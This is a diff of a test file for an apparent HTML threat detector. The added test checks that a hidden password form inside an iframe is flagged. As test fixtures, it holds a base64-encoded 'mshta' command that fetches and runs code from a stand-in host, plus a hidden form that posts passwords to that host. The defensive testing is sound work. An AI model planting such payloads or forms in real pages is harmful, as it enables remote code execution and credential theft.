@@ -72,3 +72,8 @@ def test_commands_that_are_copied_and_not_shown():
     assert "HTML-COPIES-UNSEEN" in codes(deeds(copies.format("atob('bXNodGEgaHR0cHM6Ly9oLmV4YW1wbGUvYQ==')")))
     assert "HTML-COPIES-UNSEEN" not in codes(deeds("<code>curl -LO https://h.example/a.tgz</code>" + copies.format("'curl -LO https://h.example/a.tgz'")))
     assert "HTML-COPIES-UNSEEN" not in codes(deeds(copies.format("'DE02 1203 0000 0000 2020 51'")))
+
+
+def test_forms_in_frames():
+    frame = "<iframe srcdoc='&lt;form action=https://h.example/p&gt;&lt;input type=password&gt;&lt;/form&gt;'></iframe>"
+    assert "HTML-HIDDEN-FORM" in codes(deeds(frame)) and "HTML-HIDDEN-FORM" not in codes(deeds("<iframe srcdoc='&lt;p&gt;words'></iframe>"))
